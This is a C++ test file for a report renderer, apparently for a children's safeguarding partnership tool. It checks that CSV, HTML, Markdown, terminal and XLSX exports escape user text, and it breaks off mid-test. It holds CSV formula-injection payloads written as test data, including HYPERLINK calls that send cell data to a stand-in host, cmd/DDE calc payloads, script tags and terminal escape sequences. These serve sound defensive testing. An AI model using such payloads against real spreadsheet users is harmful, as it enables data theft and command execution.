#include "services/reporting/render.h"

#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>
#include <google/protobuf/util/message_differencer.h>
#include <gtest/gtest.h>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "services/reporting/http_endpoint.h"
#include "tests/support/paths.h"
#include "tests/support/report_samples.h"
#include "tests/support/status_matchers.h"

namespace sixsteps::reporting {
namespace {

using ::sixsteps::testing::IsOk;
using ::sixsteps::testing::StatusIs;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

using Table = std::vector<std::vector<std::string>>;

// A strict RFC 4180 reader: records end with CRLF, fields are quoted when they hold a
// comma, quote, CR or LF, quotes inside are doubled. Fails on anything else (a bare LF
// outside quotes, a quote inside an unquoted field, an unterminated quote).
absl::StatusOr<Table> ParseCsv(const std::string& text) {
  Table rows;
  std::vector<std::string> row;
  std::string field;
  size_t i = 0;
  bool at_field_start = true;
  while (i < text.size()) {
    if (at_field_start && text[i] == '"') {
      ++i;
      while (true) {
        if (i >= text.size()) return absl::InvalidArgumentError("unterminated quoted field");
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field.push_back('"');
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field.push_back(text[i++]);
      }
      at_field_start = false;
      if (i < text.size() && text[i] != ',' && text[i] != '\r')
        return absl::InvalidArgumentError(absl::StrCat("junk after quoted field at ", i));
      continue;
    }
    char c = text[i];
    if (c == ',') {
      row.push_back(std::move(field));
      field.clear();
      at_field_start = true;
      ++i;
    } else if (c == '\r') {
      if (i + 1 >= text.size() || text[i + 1] != '\n')
        return absl::InvalidArgumentError("CR without LF");
      row.push_back(std::move(field));
      field.clear();
      rows.push_back(std::move(row));
      row.clear();
      at_field_start = true;
      i += 2;
    } else if (c == '\n') {
      return absl::InvalidArgumentError(absl::StrCat("bare LF at ", i));
    } else if (c == '"') {
      return absl::InvalidArgumentError(absl::StrCat("quote inside an unquoted field at ", i));
    } else {
      field.push_back(c);
      at_field_start = false;
      ++i;
    }
  }
  if (!row.empty() || !field.empty()) return absl::InvalidArgumentError("last record lacks CRLF");
  return rows;
}

Rendered MustRender(const auto& report, v1::Format format) {
  absl::StatusOr<Rendered> r = Render(report, format);
  EXPECT_THAT(r, IsOk());
  return r.ok() ? *r : Rendered{};
}

size_t Count(const std::string& haystack, const std::string& needle) {
  size_t n = 0;
  for (size_t pos = haystack.find(needle); pos != std::string::npos;
       pos = haystack.find(needle, pos + 1))
    ++n;
  return n;
}

// ---- CSV ----

TEST(RenderCsv, AssessmentParsesBackOneRowPerQuestion) {
  auto report = testing::SampleAssessmentReport();
  Rendered r = MustRender(report, v1::FORMAT_CSV);
  EXPECT_EQ(r.content_type, "text/csv; charset=utf-8; header=present");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.csv");
  EXPECT_THAT(r.content, Not(StartsWith("\xEF\xBB\xBF"))) << "no byte order mark";

  absl::StatusOr<Table> table = ParseCsv(r.content);
  ASSERT_THAT(table, IsOk());
  ASSERT_EQ(table->size(), 1u + 4u) << "a header and one row per question";
  EXPECT_THAT((*table)[0],
              ElementsAre("step_id", "step_title", "question_id", "question", "consolidated_rating",
                          "evidence_items", "evidence_missing", "divergent", "open_challenges",
                          testing::kTrickyLabel, "Northumbria Police"));
  EXPECT_THAT((*table)[1],
              ElementsAre("step-1", report.steps(0).title(), "1a",
                          "Have the three partners agreed a process for a child centred plan?",
                          "Green", "3", "no", "severe", "0", "Green", "Red"));
  EXPECT_THAT((*table)[2],
              ElementsAre("step-1", report.steps(0).title(), "1b", testing::kMultilineQuestion,
                          "Amber", "0", "yes", "no", "1", "Amber", "Amber"));
  EXPECT_THAT((*table)[3],
              ElementsAre("step-2", report.steps(1).title(), "2a", testing::kScriptQuestion, "Red",
                          "1", "no", "no", "0", "Red", "Not rated"));
  EXPECT_THAT((*table)[4], ElementsAre("step-2", report.steps(1).title(), "2b",
                                       "Is learning from reviews cascaded?", "Not rated", "0", "no",
                                       "no", "0", "Not rated", "Not rated"));
  // The label's quote is doubled inside a quoted field, the UTF-8 left alone.
  EXPECT_THAT(r.content, HasSubstr("\"Café – Sørensen, \"\"Independent\"\" Scrutineer\""));
}

TEST(RenderCsv, OtherReportsOneRowPerItem) {
  absl::StatusOr<Table> trend =
      ParseCsv(MustRender(testing::SamplePartnershipTrend(), v1::FORMAT_CSV).content);
  ASSERT_THAT(trend, IsOk());
  ASSERT_EQ(trend->size(), 3u);
  EXPECT_THAT((*trend)[0],
              ElementsAre("step_id", "question_id", "question", "Scrutiny 2023 (2023-03-31)",
                          "Scrutiny 2024 (2024-03-31)", "trend"));
  EXPECT_THAT((*trend)[1],
              ElementsAre("step-1", "1a", testing::kScriptQuestion, "Red", "Green", "Improved"));
  EXPECT_THAT((*trend)[2], ElementsAre("step-1", "1b", "Second question", "Not rated", "Amber",
                                       "Not comparable"));

  absl::StatusOr<Table> region =
      ParseCsv(MustRender(testing::SampleRegionalOverview(), v1::FORMAT_CSV).content);
  ASSERT_THAT(region, IsOk());
  ASSERT_EQ(region->size(), 3u) << "one row per partnership";
  EXPECT_EQ((*region)[0].back(), "heat_step-2");
  EXPECT_EQ((*region)[1][1], "Sunderland, \"SSCP\"");
  EXPECT_EQ((*region)[1][10], "1.00");
  EXPECT_EQ((*region)[1][11], "2.00");
  EXPECT_EQ((*region)[2][2], "yes");
  EXPECT_EQ((*region)[2][11], "") << "no step-2 in that round";

  absl::StatusOr<Table> actions =
      ParseCsv(MustRender(testing::SampleActionTracker(), v1::FORMAT_CSV).content);
  ASSERT_THAT(actions, IsOk());
  ASSERT_EQ(actions->size(), 3u) << "one row per action, though each is in two groups";
  EXPECT_EQ((*actions)[1][0], "assessments/a-1/actions/x-1");
  EXPECT_EQ((*actions)[1][4], "Northumbria Police");
  EXPECT_EQ((*actions)[1][5], "Agree the plan, with <b>children</b>, \"quickly\"");
  EXPECT_EQ((*actions)[1][8], "yes");

  absl::StatusOr<Table> annual =
      ParseCsv(MustRender(testing::SampleAnnualReportSection(), v1::FORMAT_CSV).content);
  ASSERT_THAT(annual, IsOk());
  ASSERT_EQ(annual->size(), 2u);
  EXPECT_EQ((*annual)[1][2], testing::SampleAnnualReportSection().markdown());
}

TEST(RenderCsv, FieldQuoting) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("line\nbreak"), "\"line\nbreak\"");
  EXPECT_EQ(CsvField("cr\r"), "\"cr\r\"");
  EXPECT_EQ(CsvField("Sørensen"), "Sørensen");
  // A spreadsheet that guesses ';' or tab as the separator must not split a cell either.
  EXPECT_EQ(CsvField("a;b"), "\"a;b\"");
  EXPECT_EQ(CsvField("a\tb"), "\"a\tb\"");
  EXPECT_EQ(CsvField("2026-03-31"), "2026-03-31");
  EXPECT_EQ(CsvField("e-mail"), "e-mail");
}

// The attack of the review: cells a spreadsheet would run as formulas. Each comes out
// quoted with a single quote in front (OWASP), and reads back as that text.
TEST(RenderCsv, FormulaCellsAreNeutralised) {
  const std::vector<std::string> attacks = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "  =1+1",
      "\xEF\xBC\x9D"
      "1+1",  // full-width '='
      "-",
      "=",
  };
  for (const std::string& attack : attacks) {
    EXPECT_TRUE(CsvCellStartsFormula(attack)) << attack;
    std::string field = CsvField(attack);
    EXPECT_THAT(field, StartsWith("\"'")) << attack;
    absl::StatusOr<Table> parsed = ParseCsv(field + "\r\n");
    ASSERT_THAT(parsed, IsOk()) << attack;
    ASSERT_EQ(parsed->size(), 1u);
    EXPECT_THAT((*parsed)[0], ElementsAre("'" + attack)) << attack;
  }
  EXPECT_EQ(CsvField("=\"x\""), "\"'=\"\"x\"\"\"") << "quotes still doubled";
  // Plain numbers stay numbers, and ordinary text stays as it was.
  for (const std::string& plain : {"-3", "+1.5", "-0.25", "12", "a=b", "x-1", "", "'=1"}) {
    EXPECT_FALSE(CsvCellStartsFormula(plain)) << plain;
  }
  EXPECT_EQ(CsvField("-3"), "-3");
}

// Every CSV export, with the attack in every text a user can write (names of partnerships
// and organisations, titles, question texts, action descriptions, the annual section):
// no cell of any of them starts a formula, and each attack is there as text.
TEST(RenderCsv, NoExportedCellStartsAFormula) {
  const std::string attack = "=HYPERLINK(\"http://evil.example\",\"x\")";
  const std::string plus = "+cmd|' /C calc'!A0";
  const std::string at = "@SUM(1+1)";
  const std::string minus = "-1+2";

  v1::AssessmentReport report = testing::SampleAssessmentReport();
  report.set_partnership_name(attack);
  report.set_title(plus);
  report.mutable_steps(0)->set_title(at);
  report.mutable_steps(0)->mutable_questions(0)->set_text(minus);
  report.mutable_steps(0)->mutable_questions(0)->mutable_respondent_ratings(0)->set_label(attack);

  v1::PartnershipTrend trend = testing::SamplePartnershipTrend();
  trend.set_partnership_name(attack);
  trend.mutable_rounds(0)->set_title(plus);
  trend.mutable_questions(0)->set_text(at);

  v1::RegionalOverview overview = testing::SampleRegionalOverview();
  overview.mutable_partnerships(0)->set_partnership_name(attack);
  overview.set_region_name(plus);

  v1::ActionTracker tracker = testing::SampleActionTracker();
  for (auto* groups : {tracker.mutable_by_owner(), tracker.mutable_by_step()}) {
    for (v1::ActionGroup& group : *groups) {
      group.set_label(at);
      for (v1::ActionLine& line : *group.mutable_actions()) line.set_description(attack);
    }
  }

  v1::AnnualReportSection annual = testing::SampleAnnualReportSection();
  annual.set_partnership_name(attack);
  annual.set_markdown(minus);
  annual.set_attribution(plus);

  const std::vector<std::pair<std::string, std::string>> csvs = {
      {"assessment", MustRender(report, v1::FORMAT_CSV).content},
      {"trend", MustRender(trend, v1::FORMAT_CSV).content},
      {"region", MustRender(overview, v1::FORMAT_CSV).content},
      {"actions", MustRender(tracker, v1::FORMAT_CSV).content},
      {"annual", MustRender(annual, v1::FORMAT_CSV).content}};
  for (const auto& [what, csv] : csvs) {
    absl::StatusOr<Table> table = ParseCsv(csv);
    ASSERT_THAT(table, IsOk()) << what;
    std::set<std::string> cells;
    for (const auto& row : *table) {
      for (const std::string& cell : row) {
        EXPECT_FALSE(CsvCellStartsFormula(cell)) << what << ": " << cell;
        cells.insert(cell);
      }
    }
    EXPECT_THAT(csv, Not(HasSubstr(",=HYPERLINK"))) << what;
    EXPECT_THAT(csv, Not(StartsWith("="))) << what;
    bool found = cells.contains("'" + attack) || cells.contains("'" + plus) ||
                 cells.contains("'" + at) || cells.contains("'" + minus);
    EXPECT_TRUE(found) << what << " carries the attack, neutralised:\n" << csv;
  }
}

// ---- HTML ----

TEST(RenderHtml, AssessmentIsEscapedSelfContainedAndLettered) {
  auto report = testing::SampleAssessmentReport();
  Rendered r = MustRender(report, v1::FORMAT_HTML);
  EXPECT_EQ(r.content_type, "text/html; charset=utf-8");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.html");
  const std::string& html = r.content;
  EXPECT_THAT(html, StartsWith("<!DOCTYPE html>"));
  EXPECT_THAT(html, HasSubstr("<meta charset=\"utf-8\">"));

  // Escaping: the script only ever appears escaped.
  EXPECT_THAT(html, Not(HasSubstr("<script")));
  EXPECT_THAT(
      html,
      HasSubstr("Is &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; data shared &amp; used"));
  EXPECT_THAT(html, HasSubstr("Café – Sørensen, &quot;Independent&quot; Scrutineer"));

  // Self-contained: no external resources.
  EXPECT_THAT(html, Not(HasSubstr("http://")));
  EXPECT_THAT(html, Not(HasSubstr("https://")));
  EXPECT_THAT(html, Not(HasSubstr("<link")));
  EXPECT_THAT(html, Not(HasSubstr("src=")));
  EXPECT_THAT(html, Not(HasSubstr("@import")));
  EXPECT_THAT(html, HasSubstr("@media print"));

  // Rating cells carry colour and letter.
  EXPECT_THAT(
      html,
      HasSubstr("<td class=\"rating r\" title=\"Red\"><span class=\"letter\">R</span> Red</td>"));
  EXPECT_THAT(
      html,
      HasSubstr(
          "<td class=\"rating a\" title=\"Amber\"><span class=\"letter\">A</span> Amber</td>"));
  EXPECT_THAT(
      html,
      HasSubstr(
          "<td class=\"rating g\" title=\"Green\"><span class=\"letter\">G</span> Green</td>"));
  EXPECT_THAT(html, HasSubstr("<td class=\"rating u\" title=\"Not rated\"><span "
                              "class=\"letter\">-</span> Not rated</td>"));

  // The grid: step titles as column heads, in order.
  size_t grid = html.find("<h2>Grid</h2>");
  ASSERT_NE(grid, std::string::npos);
  size_t head1 = html.find(report.steps(0).title(), grid);
  size_t head2 = html.find(report.steps(1).title(), grid);
  EXPECT_LT(head1, head2);
  EXPECT_LT(head2, html.find("</thead>", grid));

  // Legend, counts, completeness, gaps, action plan, freshness, attribution in the footer.
  EXPECT_THAT(html, HasSubstr(testing::kGreenDefinition));
  EXPECT_THAT(html, HasSubstr(testing::kAmberDefinition));
  EXPECT_THAT(html, HasSubstr(testing::kRedDefinition));
  EXPECT_THAT(html, HasSubstr("Counts per step"));
  EXPECT_THAT(html, HasSubstr("75%"));
  EXPECT_THAT(html, HasSubstr("Questions missing evidence"));
  EXPECT_THAT(html, HasSubstr("Action plan"));
  EXPECT_THAT(html, HasSubstr("Work for 1b"));
  EXPECT_THAT(html, HasSubstr("change 42"));
  size_t footer = html.find("<footer>");
  ASSERT_NE(footer, std::string::npos);
  EXPECT_NE(html.find(testing::kAttribution, footer), std::string::npos);
}

TEST(RenderHtml, EveryReportEscapes) {
  EXPECT_THAT(MustRender(testing::SamplePartnershipTrend(), v1::FORMAT_HTML).content,
              Not(HasSubstr("<script")));
  std::string actions = MustRender(testing::SampleActionTracker(), v1::FORMAT_HTML).content;
  EXPECT_THAT(actions, Not(HasSubstr("<b>children")));
  EXPECT_THAT(actions, HasSubstr("&lt;b&gt;children&lt;/b&gt;"));
  std::string region = MustRender(testing::SampleRegionalOverview(), v1::FORMAT_HTML).content;
  EXPECT_THAT(region, HasSubstr("Sunderland, &quot;SSCP&quot;"));
  EXPECT_THAT(region, HasSubstr("<span class=\"letter\">R</span> Red 1.00"));
  EXPECT_THAT(region, HasSubstr("<span class=\"letter\">A</span> Amber 2.00"));
  EXPECT_THAT(region, HasSubstr("<span class=\"letter\">G</span> Green 3.00"));
}

TEST(RenderHtml, AnnualSectionRendersItsMarkdown) {
  std::string html = MustRender(testing::SampleAnnualReportSection(), v1::FORMAT_HTML).content;
  EXPECT_THAT(html, HasSubstr("<h2>Independent scrutiny 2024</h2>"));
  EXPECT_THAT(html, HasSubstr("<strong>1 Green</strong>"));
  EXPECT_THAT(html, HasSubstr("<em>1 Amber</em>"));
  EXPECT_THAT(html, HasSubstr("<li>Step 1: strong</li>"));
  EXPECT_THAT(html, HasSubstr("<th>Step</th>"));
  EXPECT_THAT(html, HasSubstr("<td>Step 1</td>"));
  EXPECT_THAT(html, Not(HasSubstr("<script")));
  EXPECT_THAT(html, HasSubstr(testing::kAttribution));
}

TEST(TerminalText, PlainTextWithoutControls) {
  // No Markdown escaping: plain text is shown as it is.
  EXPECT_EQ(TerminalText("STATE_FINALISED [x](y) *e* <b> & # h | p \\"),
            "STATE_FINALISED [x](y) *e* <b> & # h | p \\");
  EXPECT_EQ(TerminalText("two\nlines\tand\r\ntabs"), "two lines and tabs");
  // What a terminal would act on is dropped: ESC (and so its sequences' introducer), other
  // C0 controls, DEL, the C1 controls (U+009B is CSI) and bidirectional overrides.
  EXPECT_EQ(TerminalText("a\x1b[31mred\x1b]0;title\x07"
                         "b"),
            "a[31mred]0;titleb");
  EXPECT_EQ(TerminalText("x\x7fy\x01z"), "xyz");
  EXPECT_EQ(TerminalText("c\xc2\x9b"
                         "2Jd"),
            "c2Jd");
  EXPECT_EQ(TerminalText("l\xe2\x80\xae"
                         "evil\xe2\x81\xa6"
                         "r"),
            "levilr");
  // Other text, accents and punctuation included, passes unchanged.
  EXPECT_EQ(TerminalText("Sunderland – café · ok"), "Sunderland – café · ok");
}

TEST(MarkdownText, EscapesEverythingThatWouldBeMarkup) {
  EXPECT_EQ(MarkdownText("[x](javascript:alert(1))"), "\\[x\\](javascript:alert(1))");
  EXPECT_EQ(MarkdownText("![i](y) <b> & *e* _u_ `c` # h | p"),
            "!\\[i\\](y) &lt;b&gt; &amp; \\*e\\* \\_u\\_ \\`c\\` \\# h \\| p");
  EXPECT_EQ(MarkdownText("- item"), "\\- item");
  EXPECT_EQ(MarkdownText("+ item"), "\\+ item");
  EXPECT_EQ(MarkdownText("12. item"), "12\\. item");
  EXPECT_EQ(MarkdownText("-3 and 1.5"), "-3 and 1.5");
  EXPECT_EQ(MarkdownText("2026-03-31"), "2026-03-31");
  EXPECT_EQ(MarkdownText("two\nlines"), "two lines");
}

TEST(HtmlEscape, AllFive) {
  EXPECT_EQ(HtmlEscape("<a href=\"x\">&'"), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
}

// ---- Markdown ----

TEST(RenderMarkdown, AssessmentGridRows) {
  Rendered r = MustRender(testing::SampleAssessmentReport(), v1::FORMAT_MARKDOWN);
  EXPECT_EQ(r.content_type, "text/markdown; charset=utf-8");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.md");
  std::vector<std::string> lines = absl::StrSplit(r.content, '\n');
  EXPECT_THAT(lines,
              ::testing::Contains(
                  "|   | step-1: The three core partner leads are actively involved in strategic "
                  "planning | "
                  "step-2: Appropriate quality assurance procedures are in place for data |"));
  EXPECT_THAT(lines, ::testing::Contains("| --- | --- | --- |"));
  EXPECT_THAT(lines, ::testing::Contains("| **Question 1** | **G** Green · 1a | **R** Red · 2a |"));
  EXPECT_THAT(lines,
              ::testing::Contains("| **Question 2** | **A** Amber · 1b | **-** Not rated · 2b |"));
  // Every table line has the same number of cells as its header.
  for (const std::string& line : lines) {
    if (!std::regex_search(line, std::regex("^\\| \\*\\*Question [0-9]"))) continue;
    EXPECT_EQ(Count(line, " |"), 3u) << line;
  }
  EXPECT_THAT(r.content, Not(HasSubstr("<script")));
  EXPECT_THAT(r.content, HasSubstr("&lt;script&gt;"));
  EXPECT_THAT(r.content, HasSubstr("Café – Sørensen, \"Independent\" Scrutineer"));
  EXPECT_THAT(r.content, HasSubstr("Including business, sport &amp; faith"))
      << "newline folded into the cell";
  EXPECT_THAT(r.content, HasSubstr(testing::kGreenDefinition));
}

// The section's Markdown read into the document and written out again: the same headings,
// emphasis, lists and tables, the data still escaped.
TEST(RenderMarkdown, AnnualSectionKeepsItsMarkdown) {
  auto section = testing::SampleAnnualReportSection();
  Rendered r = MustRender(section, v1::FORMAT_MARKDOWN);
  EXPECT_THAT(r.content, StartsWith("# Annual report section"));
  EXPECT_THAT(r.content, HasSubstr("\n## Independent scrutiny 2024\n"));
  EXPECT_THAT(r.content, HasSubstr("The partnership rated **1 Green**, *1 Amber* and 1 Red."));
  EXPECT_THAT(r.content, HasSubstr("\n- Step 1: strong\n- Step 2: data gaps\n"));
  EXPECT_THAT(r.content, HasSubstr("| Step | R | A | G |\n| --- | --- | --- | --- |\n"));
  EXPECT_THAT(r.content, HasSubstr("&lt;script&gt;x&lt;/script&gt;"));
  EXPECT_THAT(r.content, Not(HasSubstr("<script")));
  EXPECT_THAT(r.content, HasSubstr("Adapted from Pearce"));
}

// ---- Text ----

TEST(RenderText, AssessmentGridLetters) {
  Rendered r = MustRender(testing::SampleAssessmentReport(), v1::FORMAT_TEXT);
  EXPECT_EQ(r.content_type, "text/plain; charset=utf-8");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.txt");
  // Letter and name, as in every other format.
  EXPECT_THAT(r.content, HasSubstr("G Green · 1a"));
  EXPECT_THAT(r.content, HasSubstr("A Amber · 1b"));
  EXPECT_THAT(r.content, HasSubstr("R Red · 2a"));
  EXPECT_THAT(r.content, HasSubstr("- Not rated · 2b"));
  EXPECT_THAT(r.content, HasSubstr("What the ratings mean\n====="));
  EXPECT_THAT(r.content, HasSubstr("a positive affirmation"));
  EXPECT_THAT(r.content, HasSubstr("Adapted from Pearce"));
  for (absl::string_view line : absl::StrSplit(r.content, '\n')) {
    EXPECT_LE(line.size(), 400u) << "readable in a terminal: " << line;
  }
}

TEST(RenderText, PlainTextCarriesNoMarkdownEscapes) {
  v1::AssessmentReport report = testing::SampleAssessmentReport();
  report.set_title("Round_2 [draft] *final* \x1b[2Jcleared");
  Rendered r = MustRender(report, v1::FORMAT_TEXT);
  EXPECT_THAT(r.content, HasSubstr("Round_2 [draft] *final* [2Jcleared"));
  EXPECT_THAT(r.content, Not(HasSubstr("\\_")));
  EXPECT_THAT(r.content, Not(HasSubstr("\x1b")));
  // Kept for a human to look at: <build>/tests/artifacts.
  std::filesystem::path dir = testing::BuildDir() / "tests" / "artifacts";
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "RenderText.PlainTextCarriesNoMarkdownEscapes.txt") << r.content;
}

// ---- JSON ----

TEST(RenderJson, ParsesBackToTheSameMessage) {
  auto report = testing::SampleAssessmentReport();
  Rendered r = MustRender(report, v1::FORMAT_JSON);
  EXPECT_EQ(r.content_type, "application/json; charset=utf-8");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.json");
  EXPECT_THAT(r.content, HasSubstr("\"completeness_percent\": 75")) << "proto field names, pretty";
  EXPECT_THAT(r.content, HasSubstr("\"RATING_GREEN\""));
  v1::AssessmentReport back;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(r.content, &back).ok());
  EXPECT_TRUE(google::protobuf::util::MessageDifferencer::Equals(report, back))
      << back.DebugString();

  // Unspecified means JSON.
  EXPECT_EQ(MustRender(report, v1::FORMAT_UNSPECIFIED).content, r.content);

  v1::ActionTracker tracker_back;
  ASSERT_TRUE(
      google::protobuf::util::JsonStringToMessage(
          MustRender(testing::SampleActionTracker(), v1::FORMAT_JSON).content, &tracker_back)
          .ok());
  EXPECT_TRUE(google::protobuf::util::MessageDifferencer::Equals(testing::SampleActionTracker(),
                                                                 tracker_back));
}

// ---- XLSX ----

std::string RunCommand(const std::string& command) {
  std::string out;
  FILE* pipe = popen(command.c_str(), "r");
  if (pipe == nullptr) return out;
  char buffer[4096];
  size_t n;
  while ((n = fread(buffer, 1, sizeof buffer, pipe)) > 0) out.append(buffer, n);
  pclose(pipe);
  return out;
}

std::string XmlUnescape(std::string s) {
  const std::pair<const char*, const char*> entities[] = {{"&lt;", "<"},    {"&gt;", ">"},
                                                          {"&quot;", "\""}, {"&apos;", "'"},
                                                          {"&#39;", "'"},   {"&amp;", "&"}};
  for (const auto& [from, to] : entities) {
    for (size_t pos = s.find(from); pos != std::string::npos; pos = s.find(from, pos + 1)) {
      s.replace(pos, strlen(from), to);
    }
  }
  return s;
}

class Xlsx : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() / ("render_test_" + std::to_string(getpid()));
    std::filesystem::create_directories(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }

  // Writes the bytes to a file and lists/reads members with the unzip command.
  std::string Save(const std::string& bytes) {
    std::string path = (dir_ / "report.xlsx").string();
    std::ofstream(path, std::ios::binary) << bytes;
    return path;
  }
  std::string Member(const std::string& path, const std::string& member) {
    return RunCommand("unzip -p '" + path + "' '" + member + "'");
  }
  // The shared strings, in index order.
  std::vector<std::string> SharedStrings(const std::string& path) {
    std::string xml = Member(path, "xl/sharedStrings.xml");
    std::vector<std::string> out;
    std::regex si("<si>(?:<t(?: [^>]*)?>([^<]*)</t>)</si>");
    for (std::sregex_iterator it(xml.begin(), xml.end(), si), end; it != end; ++it) {
      out.push_back(XmlUnescape((*it)[1].str()));
    }
    return out;
  }
  // Cell reference ("C2") -> value (shared strings resolved) and style index.
  struct Cell {
    std::string value;
    std::string style;
  };
  std::map<std::string, Cell> Cells(const std::string& path, const std::string& sheet) {
    std::vector<std::string> strings = SharedStrings(path);
    std::string xml = Member(path, sheet);
    std::map<std::string, Cell> out;
    std::regex c("<c r=\"([A-Z]+[0-9]+)\"((?: [a-z]+=\"[^\"]*\")*)>(?:<v>([^<]*)</v>)?</c>");
    std::regex style(" s=\"([0-9]+)\"");
    std::regex type(" t=\"([a-z]+)\"");
    for (std::sregex_iterator it(xml.begin(), xml.end(), c), end; it != end; ++it) {
      std::string attrs = (*it)[2].str();
      std::smatch m;
      Cell cell;
      if (std::regex_search(attrs, m, style)) cell.style = m[1].str();
      cell.value = (*it)[3].str();
      if (std::regex_search(attrs, m, type) && m[1].str() == "s") {
        size_t index = std::stoul(cell.value);
        cell.value = index < strings.size() ? strings[index] : "?";
      }
      out[(*it)[1].str()] = cell;
    }
    return out;
  }

  std::filesystem::path dir_;
};

TEST_F(Xlsx, AssessmentWorkbook) {
  Rendered r = MustRender(testing::SampleAssessmentReport(), v1::FORMAT_XLSX);
  EXPECT_EQ(r.content_type, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.xlsx");
  ASSERT_THAT(r.content, StartsWith("PK")) << "a zip file";
  std::string path = Save(r.content);

  std::string workbook = Member(path, "xl/workbook.xml");
  EXPECT_THAT(workbook, HasSubstr("name=\"Grid\""));
  EXPECT_THAT(workbook, HasSubstr("name=\"Report\""));

  std::string shared = Member(path, "xl/sharedStrings.xml");
  EXPECT_THAT(shared,
              HasSubstr("Is &lt;script&gt;alert(\"x\")&lt;/script&gt; data shared &amp; used"));
  EXPECT_THAT(shared, Not(HasSubstr("<script")));
  EXPECT_THAT(shared, HasSubstr("Café – Sørensen, \"Independent\" Scrutineer"));
  EXPECT_THAT(shared,
              HasSubstr("Have the three partners agreed a process for a child centred plan?"));

  std::string sheet1 = Member(path, "xl/worksheets/sheet1.xml");
  ASSERT_THAT(sheet1, HasSubstr("<sheetData>"));
  auto cells = Cells(path, "xl/worksheets/sheet1.xml");
  // Header, then one row per question with its id and text.
  EXPECT_EQ(cells["C1"].value, "question_id");
  EXPECT_EQ(cells["J1"].value, testing::kTrickyLabel);
  EXPECT_EQ(cells["C2"].value, "1a");
  EXPECT_EQ(cells["C3"].value, "1b");
  EXPECT_EQ(cells["C4"].value, "2a");
  EXPECT_EQ(cells["C5"].value, "2b");
  EXPECT_EQ(cells["D4"].value, testing::kScriptQuestion);
  EXPECT_EQ(cells.count("C6"), 0u);
  // Rating cells: letter and name, one format per rating.
  EXPECT_EQ(cells["E2"].value, "G Green");
  EXPECT_EQ(cells["E3"].value, "A Amber");
  EXPECT_EQ(cells["E4"].value, "R Red");
  EXPECT_EQ(cells["E5"].value, "- Not rated");
  std::set<std::string> styles = {cells["E2"].style, cells["E3"].style, cells["E4"].style,
                                  cells["E5"].style};
  EXPECT_EQ(styles.size(), 4u);
  EXPECT_EQ(cells["K2"].value, "R Red") << "the police's rating of 1a";
  EXPECT_EQ(cells["F2"].value, "3") << "evidence items as a number";

  std::string styles_xml = Member(path, "xl/styles.xml");
  EXPECT_THAT(styles_xml, HasSubstr("FFB71C1C"));
  EXPECT_THAT(styles_xml, HasSubstr("FFFFBF00"));
  EXPECT_THAT(styles_xml, HasSubstr("FF1B5E20"));

  auto summary = Cells(path, "xl/worksheets/sheet2.xml");
  bool found_completeness = false;
  for (const auto& [ref, cell] : summary) found_completeness |= cell.value == "75%";
  EXPECT_TRUE(found_completeness);
}

// The XLSX has no formula path: text that looks like a formula is written as a string
// cell (a shared string), never as a formula (<f>) or a hyperlink.
TEST_F(Xlsx, FormulaTextStaysAString) {
  const std::string attack = "=HYPERLINK(\"http://evil.example\",\"x\")";
  v1::ActionTracker tracker = testing::SampleActionTracker();
  for (v1::ActionGroup& group : *tracker.mutable_by_owner()) {
    group.set_label("@SUM(1+1)");
    for (v1::ActionLine& line : *group.mutable_actions()) line.set_description(attack);
  }
  v1::RegionalOverview overview = testing::SampleRegionalOverview();
  overview.mutable_partnerships(0)->set_partnership_name(attack);
  for (const std::string& content : {MustRender(tracker, v1::FORMAT_XLSX).content,
                                     MustRender(overview, v1::FORMAT_XLSX).content}) {
    std::string path = Save(content);
    std::string sheets = Member(path, "xl/worksheets/*.xml");
    ASSERT_THAT(sheets, HasSubstr("<sheetData>"));
    EXPECT_THAT(sheets, Not(HasSubstr("<f>")));
    EXPECT_THAT(sheets, Not(HasSubstr("<f ")));
    EXPECT_THAT(sheets, Not(HasSubstr("<hyperlink")));
    EXPECT_THAT(Member(path, "xl/sharedStrings.xml"),
                HasSubstr("=HYPERLINK(\"http://evil.example\",\"x\")"));
  }
}

TEST_F(Xlsx, OtherReportsHaveTheirSheets) {
  struct Case {
    std::string content;
    std::vector<std::string> sheets;
  };
  std::vector<Case> cases = {
      {MustRender(testing::SamplePartnershipTrend(), v1::FORMAT_XLSX).content,
       {"Questions", "Report"}},
      {MustRender(testing::SampleRegionalOverview(), v1::FORMAT_XLSX).content,
       {"Partnerships", "Report"}},
      {MustRender(testing::SampleActionTracker(), v1::FORMAT_XLSX).content, {"Actions", "Report"}},
      {MustRender(testing::SampleAnnualReportSection(), v1::FORMAT_XLSX).content,
       {"Section", "Report"}},
  };
  for (const Case& c : cases) {
    ASSERT_THAT(c.content, StartsWith("PK"));
    std::string path = Save(c.content);
    std::string workbook = Member(path, "xl/workbook.xml");
